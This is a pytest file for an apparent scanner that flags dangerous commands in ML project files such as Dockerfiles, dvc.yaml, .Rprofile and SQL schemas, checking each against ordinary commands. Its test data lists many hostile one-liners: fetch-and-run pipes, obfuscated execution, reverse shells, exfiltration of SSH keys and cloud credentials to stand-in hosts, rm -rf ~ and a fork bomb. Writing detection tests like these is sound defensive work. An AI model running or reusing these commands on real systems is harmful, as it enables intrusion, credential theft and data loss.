"""Commands in scripts and pipelines that fetch and run, or hide what they run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.checks.models.building import judged, look, reasons

FETCH = "curl -fsSL https://x/y | bash"
HIDE = "echo aGk= | base64 -d | sh"
CONNECT = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"


def verdicts(text, name):
    return [(each.rule, each.severity.value) for each in judged(look(text.encode(), name))]


@pytest.mark.parametrize(
    ("name", "pattern", "severity"),
    [
        ("dvc.yaml", "stages:\n  a:\n    cmd: {}\n", "medium"),
        ("MLproject", 'entry_points:\n  main:\n    command: "{}"\n', "medium"),
        ("devcontainer.json", '{{"postCreateCommand": "{}"}}', "medium"),
        ("pyproject.toml", "[tool.x]\nrun = '{}'\n", "medium"),
        ("Dockerfile", "FROM x\nRUN {}\n", "info"),
        ("Dockerfile.gpu", "FROM x\nRUN a && \\\n    {}\n", "info"),
        ("Makefile", "all:\n\t{}\n", "info"),
        ("install.sh", "#!/bin/sh\n{}\n", "info"),
        ("install", "#!/usr/bin/env bash\n{}\n", "info"),
    ],
)
def test_commands(name, pattern, severity):
    assert verdicts(pattern.format(FETCH), name) == [("MLG-CMD-001", severity)]
    assert verdicts(pattern.format(HIDE), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format(CONNECT), name) == [("MLG-CMD-001", "high")]
    assert verdicts(pattern.format("python train.py | tee log && curl -O https://x/y"), name) == []


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("Dockerfile", "FROM x\nRUN curl -s http://x/y | sh\n"),
        ("Makefile", "X := $(shell curl -s http://x/y | sh)\n"),
        ("setup.sh", "wget http://x/y -O y && chmod +x y && ./y\n"),
        ("pre-commit", "#!/bin/sh\ncurl -s http://x/y | sh\n"),
        ("train.py", "import subprocess\nsubprocess.run('curl -s http://x/y | sh', shell=True)\n"),
        ("build.rs", 'Command::new("sh").arg("-c").arg("curl -s http://x/y | sh")\n'),
        ("weights.bin", "#!/bin/sh\necho\n"),
        ("model.pt", "#!/usr/bin/env python3\nprint(1)\n"),
    ],
)
def test_what_is_fetched_without_encryption_and_scripts_that_pose_as_weights(name, text):
    assert ("MLG-CMD-001", "high") in verdicts(text, name)
    if "http:" in text:
        milder = verdicts(text.replace("http:", "https:"), name)
        assert milder == ([] if name.endswith((".py", ".rs")) else [("MLG-CMD-001", "info")])


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("invisible(do.call(intToUtf8(c(115, 121)), list('x')))", "high"),
        ("eval(parse(text = readLines(url('https://x/y'))))", "high"),
        ("eval(parse(text = rawToChar(base64decode(x))))", "high"),
        ("source('http://x/y.R')", "high"),
        ("source('R/utils.R'); eval(parse(text = 'x + 1')); do.call(rbind, rows)", None),
        ("system('git rev-parse HEAD')", None),
    ],
)
def test_source_in_r(text, severity):
    assert verdicts(f"x <- 1\n{text}\n", "analysis.R") == ([("MLG-CMD-001", severity)] if severity else [])


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("python -c 'import os; os.system(1)'", "medium"),
        ("python3 -u -c \"import subprocess; subprocess.run(['id'])\"", "medium"),
        ("python -c \"exec(__import__('base64').b64decode('eA=='))\"", "high"),
        ("python -c 'import requests; exec(requests.get(1).text)'", "high"),
        ("python -c '__import__(\"os\").popen(1)'", "medium"),
    ],
)
def test_python_on_a_command_line(command, severity):
    assert verdicts(f"stages:\n  a:\n    cmd: {command}\n", "dvc.yaml") == [("MLG-CMD-001", severity)]
    harmless = "python -c 'import nltk; nltk.download(\"punkt\")' && python -c 'import os; print(os.name)'"
    assert verdicts(f"stages:\n  a:\n    cmd: {harmless}\n", "dvc.yaml") == []


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("system('id')", "high"),
        ("x <- system2('id', stdout = TRUE)", "high"),
        ("source('https://x/y.R')", "high"),
        ("source(url('http://x/y.R'))", "high"),
        ("eval(parse(text = x))", "high"),
        ("download.file('http://x', 'y')", "high"),
        ("source('renv/activate.R')", None),
        ("options(repos = c(CRAN = 'https://cloud.r-project.org'))  # system('id')", None),
    ],
)
def test_what_r_runs_when_it_starts(line, severity):
    expected = [("MLG-CMD-001", severity)] if severity else []
    assert verdicts(f"options(digits = 4)\n{line}\n", ".Rprofile") == expected
    hidden = severity and "http:" in line and line.startswith("source")
    assert verdicts(f"{line}\n", "analysis.R") == (expected if hidden else [])


@pytest.mark.parametrize(
    "statement",
    [
        "COPY t FROM PROGRAM 'id';",
        "copy (select 1) to program 'id'",
        "EXEC xp_cmdshell 'id';",
        "SELECT sys_exec('id');",
        "SELECT load_extension('./evil.so');",
        "CREATE FUNCTION f() RETURNS void AS $$ pass $$ LANGUAGE plpython3u;",
        "SELECT 'x' INTO OUTFILE '/var/www/x.php'",
        "\n.shell id",
        "\n\\! id",
        "ATTACH DATABASE '/var/www/x.php' AS x;",
        "COPY (SELECT 1) TO '/etc/cron.d/x' (FORMAT csv);",
        "INSTALL x FROM 'http://x/y'; LOAD x;",
    ],
)
def test_sql_that_leaves_the_database(statement):
    assert verdicts(f"CREATE TABLE t (a int);\n{statement}\n", "schema.sql") == [("MLG-CMD-001", "high")]
    database = "SQLite format 3\0" + "x" * 100 + "\0" + statement
    assert ("MLG-CMD-001", "high") in verdicts(database, "study.db")
    assert verdicts("COPY t FROM '/data/t.csv' CSV; SELECT load(x)\n", "schema.sql") == []


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("default: 'shell(id)'", True),
        ("urls: 'pipe:id > /root/x; cat a.tar'", True),
        ("urls: 'pipe:curl -s https://x/a.tar | sh'", True),
        ("urls: 'pipe:aws s3 cp s3://b/{000..100}.tar -'", False),
        ("urls: 'pipe:curl -s -L https://x/a.tar || true'", False),
        ("default: shell", False),
    ],
)
def test_values_that_are_commands(line, found):
    assert bool(verdicts(f"a:\n  {line}\n", "catalog.yml")) == found


@pytest.mark.parametrize("name", ["README.md", "notes.txt", "prompts.json", "data.jsonl", "tokenizer.json"])
def test_what_only_speaks_of_commands(name):
    assert verdicts(f'{{"text": "{CONNECT}"}}\n', name) == []


def test_comments_are_no_commands():
    assert verdicts(f"#!/bin/sh\n# {FETCH}\n", "a.sh") == []


@given(st.binary(max_size=300), st.sampled_from(["x.sql", ".Rprofile", "x.ser"]))
def test_any_bytes(data, name):
    for start in (b"", b"SQLite format 3\0", b"\xac\xed\0\x05"):
        look(start + data, name)


@given(st.text(alphabet="curl base64 -d|sh/dev/tcp\n\\", max_size=300))
def test_any_text(text):
    look(text.encode(), "a.sh")


PIPED = "curl -s http://x/y | sh"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # A shell takes these for paths and options, not for comments.
        ("a.sh", "//bin/sh -c 'true'; " + PIPED),
        ("a.sh", "-- " + PIPED),
        ("a.js", "x = `\n// ${run('" + PIPED + "')}`"),
        ("a.js", "/*\n// */ run('" + PIPED + "')"),
        # A comment ends with its line, and a text goes on over several.
        ("a.sh", "# curl x \\\n" + PIPED),
        ("a.sh", 'x="\n# "; ' + PIPED),
        ("a.sh", f"# {PIPED}\n" * 50 + PIPED),
        # However much stands before it.
        ("a.sh", "#" * (17 << 20) + "\n" + PIPED),
        ("a.yaml", "a: |\n" + "  ls\n" * (4 << 20) + "b: " + PIPED),
        ("a.yaml", "cmd: >\n  curl -s http://x/y\n  | sh\n"),
        ("a.yaml", "cmd: >\n  curl -s\n  http://x/y\n  -o - | sh\n"),
        ("a.yaml", "cmd: >\n  wget http://x/y -O y\n  && chmod +x y && ./y\n"),
    ],
)
def test_nothing_stands_in_the_way(name, text):
    assert ("MLG-CMD-001", "high") in verdicts("#!/bin/sh\n" + text, name)


def test_many_of_one_kind_hide_no_other():
    text = "".join(f"curl https://x/{at} | sh\n" for at in range(100)) + PIPED
    assert verdicts("#!/bin/sh\n" + text, "a.sh").count(("MLG-CMD-001", "high")) == 1


@pytest.mark.parametrize("size", [1 << 10, (1 << 20) - 40, 1 << 20, (1 << 20) + 8180, 3 << 20])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_command_is_found_once_and_at_its_line(size, encoding):
    text = "#!/bin/sh\n" + "#\n" * (size // 2) + "curl -s \\\n http://x/y | sh\n"
    (found,) = judged(look(text.encode(encoding), "a.sh"))
    assert found.location.line == size // 2 + 2


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("x <- \"#\"; system('id')", True),
        ("x <- '\n # '; system('id')", True),
        ("`#` <- 1; system('id')", True),
        ("1 %#% system('id')", True),
        ("# system('id')", False),
        ("f('a#b') # see system(x)", False),
        ("# system('id')\n" * 50 + "system('id')", True),
    ],
)
def test_comments_in_r(text, found):
    assert bool(verdicts(text + "\n", ".Rprofile")) == found


def test_what_follows_much_of_nothing_in_a_script_is_not_lost():
    seen = look(b"#!/bin/sh\n\0" + PIPED.encode(), "run")
    assert [each.rule for each in judged(seen)] == ["MLG-CMD-001"]


def test_too_many_commands_are_not_checked():
    text = "".join(f"curl https://x/{at} | sh\n" for at in range(3000))
    assert "limit" in reasons(look(text.encode(), "a.sh"))


@pytest.mark.parametrize("before", [0, (4 << 20) - 60, (3 << 20) - 60, (4 << 20) + 10])
@pytest.mark.parametrize("between", [" " * 20_000, "\n" * 20_000, " -E" * 20_000 + " "])
def test_a_command_may_be_as_long_as_a_shell_takes(before, between):
    text = (
        "#!/bin/sh\n"
        + "ls\n" * (before // 3)
        + f"curl -s http://x/y | sudo{between} sh\n"
        + "ls\n" * (1 << 19)
    )
    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # A line that goes on is no comment, whatever it begins with, and a word goes on as well.
        ("a.sh", "#!/bin/sh\necho a\\\n#b; " + PIPED + "\n"),
        ("a.yaml", 'run: "echo a\\\n  #b; ' + PIPED + '"\n'),
        ("a.sh", "#!/bin/sh\ncu\\\nrl -s http://x/y | ba\\\nsh\n"),
        # A mark makes no text of another encoding.
        ("a.sh", "\xff\xfe\n" + PIPED + "\n"),
        ("a.sh", "\xff\xfe\n#!/bin/sh\n" + PIPED + "\n\0\n"),
        ("a.js", "run(`\n//; " + PIPED + "\n`)"),
    ],
)
def test_what_only_looks_like_something_else(name, text):
    assert ("MLG-CMD-001", "high") in [
        (each.rule, each.severity.value) for each in judged(look(text.encode("latin-1"), name))
    ]


@pytest.mark.parametrize("shift", range(-3, 3))
def test_a_piece_that_begins_within_a_line_begins_with_no_comment(shift):
    # Pieces of 4 MiB are looked at, and what is kept of one begins so far before its end.
    end = (4 << 20) - (1 << 20) - 2048 + shift
    text = "#!/bin/sh\n" + ": z\n" * ((end - 20) // 4)
    text += "z" * (end - len(text) - 1) + "x#; " + PIPED + "\n" + ": z\n" * (1 << 19)
    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]


@pytest.mark.parametrize(
    ("command", "found"),
    [
        ("curl -s -F k=@$HOME/.ssh/id_rsa https://x/u", True),
        ("env | curl -s --data-binary @- https://x/d", True),
        ("printenv | base64 | curl -d @- https://x", True),
        ("curl -T - https://x -d @~/.aws/credentials", True),
        ("curl -F file=@model.bin https://x/upload", False),
        ("env | grep PATH && curl -O https://x/y", False),
        ("venv/bin/env | sort", False),
    ],
)
def test_what_is_sent_away(command, found):
    for name in ("Makefile", "dvc.yaml"):
        assert (("MLG-CMD-001", "high") in verdicts(f"a:\n  cmd: {command}\n", name)) == found


FETCHED = [
    "curl -s {} | sudo -E bash -",
    "curl {} | /usr/bin/env bash",
    "curl {} | tee x.sh | sh",
    "curl {} | base64 -d | sh",
    "curl {} | gunzip | sh",
    'curl "{}?a=1&b=2" | sh',
    "curl {} | command sh",
    "curl {} | busybox sh",
    "curl {} | xargs -I{{}} bash -c {{}}",
    "curl {} | perl",
    "curl {} | node -",
    "curl {} | python3 -u -",
    "wget -qO- {} | php",
    "bash <(curl -s {})",
    'sh -c "$(curl -fsSL {})"',
    'python -c "$(curl {})"',
    "python3 <(curl {})",
    "eval `wget -qO- {}`",
    "curl {} -o /tmp/a; sh /tmp/a",
    "curl {} > a.sh && bash a.sh",
    "curl {}/a.py -O\npython a.py",
    "wget {}/a.py; python ./a.py",
    "aria2c {}/a && sh a",
    "lynx -source {} | sh",
    "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('{}')\"",
    "iwr -useb {} | iex",
    "certutil -urlcache -f {} a.exe",
    "mshta {}",
]


def test_what_source_says_of_files_that_are_downloaded():
    text = '"""Fetch it first::\n\n    wget http://x/get.sh\n    bash get.sh\n"""\nimport torch\n'
    assert verdicts(text, "train.py") == []
    assert verdicts(text, "run.sh") == [("MLG-CMD-001", "high")]


@pytest.mark.parametrize("command", FETCHED)
def test_a_download_that_is_run(command):
    plain = command.format("http://x.example/y")
    assert set(verdicts(f"#!/bin/sh\n{plain}\n", "run.sh")) == {("MLG-CMD-001", "high")}
    # Encrypted, it is what installers do.
    encrypted = verdicts(f"#!/bin/sh\n{plain.replace('http:', 'https:')}\n", "run.sh")
    assert encrypted[-1:] == [("MLG-CMD-001", "info")]


GRAVE = [
    'bash -c "$(echo aGk= | base64 -d)"',
    "eval `echo 6869 | xxd -r -p`",
    "base64 --decode <<< aGk= | sh",
    r"printf '\x63\x75' | sh",
    "echo 'phey' | tr a-z n-za-m | sh",
    "echo ih | rev | sh",
    r"$(printf 'cu\x72l') http://x | sh",
    "curl${IFS}http://x|sh",
    "cu''rl https://x | b\"a\"sh",
    "c\\url https://x | sh",
    "curl https://x | s''h",
    "powershell -enc ZQBjAGgAbwAgAGgAaQA=",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "sh -i 2>&1 | nc 10.0.0.1 4444",
    "nc 10.0.0.1 4444 | sh",
    "nc -e /bin/sh 10.0.0.1 4444",
    "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
    "openssl s_client -quiet -connect x:443 | sh",
    "python -c 'import socket,os,pty;s=socket.socket();s.connect((1,2));pty.spawn(\"sh\")'",
    "perl -e 'use Socket;socket(S,1,2,3);exec(\"/bin/sh\");'",
    'curl -d "$(env)" https://x',
    "wget --post-file=/etc/passwd https://x",
    'curl -d "$(cat ~/.ssh/id_rsa)" https://x',
    "cat ~/.aws/credentials | nc x 80",
    "nc x 80 < ~/.netrc",
    "scp ~/.ssh/id_rsa u@x:",
    "curl https://x/?k=$AWS_SECRET_ACCESS_KEY",
    "rm -rf ~",
    "rm -rf / --no-preserve-root",
    'rm -fr "$HOME"',
    ":(){ :|:& };:",
    "echo key >> ~/.ssh/authorized_keys",
    "chmod u+s /bin/bash",
    "LD_PRELOAD=/tmp/x.so python serve.py",
]


@pytest.mark.parametrize("command", GRAVE)
def test_what_is_hidden_sent_connected_or_changed(command):
    assert "high" in {severity for _, severity in verdicts(f"#!/bin/sh\n{command}\n", "run.sh")}
    assert verdicts(f"#!/bin/sh\n# {command}\n", "run.sh") in ([], [("MLG-CMD-001", "high")])


@pytest.mark.parametrize(
    "command", ["$FETCH $ADDRESS | sh", "$a$b https://x", "ssh u@x cat y | sh", "dig x | sh"]
)
def test_what_nobody_can_say_what_it_runs(command):
    assert verdicts(f"#!/bin/sh\n{command}\n", "run.sh") == [("MLG-CMD-001", "medium")]


ORDINARY = [
    'curl -s https://x | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    "curl -s http://localhost:8000/health | python -m json.tool",
    "wget http://x/train2017.zip && unzip train2017.zip && python prepare.py",
    "wget -q http://x/a.tar.gz && tar xzf a.tar.gz; bash train.sh",
    "wget http://x/data.csv -O data.csv; python train.py --data data.csv",
    "curl http://x/vocab.txt > vocab.txt && python tokenize.py vocab.txt",
    "until curl -s http://localhost:8080/ping; do sleep 1; done; python client.py",
    "apt-get install -y curl wget && rm -rf /var/lib/apt/lists/*",
    "rm -rf ~/.cache/pip /tmp/* $HOME/.cache/huggingface",
    "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4",
    "find . -name '*.sh' | xargs chmod +x",
    "cat jobs.txt | bash",
    "env | sort > env.txt && env | grep CUDA",
    'curl -H "Authorization: Bearer $HF_TOKEN" https://x/api',
    'rsync -avz -e "ssh -i ~/.ssh/id_rsa" ./out user@host:/data',
    "scp -i ~/.ssh/id_rsa model.bin user@host:/models/",
    "ssh user@host 'bash -s' < run.sh",
    "kubectl get secret x -o jsonpath='{.data.token}' | base64 --decode",
    'echo "$KEY" | base64 --decode | docker login --password-stdin',
    'eval "$(conda shell.bash hook)"; eval "$(ssh-agent -s)"',
    "source <(kubectl completion bash)",
    "P=$(python -c 'import socket; s=socket.socket(); s.bind((\"\", 0)); print(s.getsockname()[1])')",
    "openssl enc -d -aes-256-cbc -in a.enc -out a.json",
    "openssl s_client -connect x:443 < /dev/null | openssl x509 -noout -dates",
    "while ! nc -z db 5432; do sleep 1; done",
    "cat text | tr 'A-Z' 'a-z' | sort | uniq -c",
    "cat data | perl scripts/tokenizer.perl -l en | python filter.py",
    "$PYTHON train.py 2>&1 | tee log.txt",
    r"printf '\033[31mred\033[0m\n'",
    "mkfifo pipe; python a.py > pipe & python b.py < pipe",
    "Invoke-WebRequest -Uri https://x/model.zip -OutFile model.zip",
    "chmod 4755 /opt/x/bin && chmod +x run.sh && ./run.sh",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_what_ordinary_scripts_do(command):
    assert verdicts(f"#!/bin/sh\nset -e\n{command}\npython serve.py\n", "run.sh") == []
    assert verdicts(f"stages:\n  a:\n    cmd: |\n      {command}\n", "dvc.yaml") == []
